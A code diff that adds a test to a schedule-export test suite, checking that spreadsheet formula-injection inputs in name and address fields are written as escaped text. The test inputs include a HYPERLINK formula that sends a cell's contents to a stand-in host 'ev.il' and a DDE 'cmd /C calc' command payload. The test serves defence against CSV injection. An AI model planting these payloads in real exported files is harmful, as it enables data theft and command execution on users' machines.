@@ -95,6 +95,11 @@ describe('schedule files', () => {
     );
   });
 
+  it('writes a name or address a spreadsheet would run as a formula as text, and the amount as a number', () => {
+    const csv = scheduleCsv([row({ firstName: '=HYPERLINK("//ev.il/"&D2,"x")', lastName: "+cmd|' /C calc'!A0", houseNameOrNumber: '@SUM(1)' })]).toString('utf8');
+    expect(csv.split('\r\n')[1]).toBe(`Mrs,"'=HYPERLINK(""//ev.il/""&D2,""x"")",'+cmd|' /C calc'!A0,'@SUM(1),SW1A 1AA,,,05/04/26,10.00`);
+  });
+
   it('writes the same OpenDocument bytes each time, with a date cell and a number for the amount', () => {
     const ods = scheduleOds([row()]);
     expect(scheduleOds([row()]).equals(ods)).toBe(true);
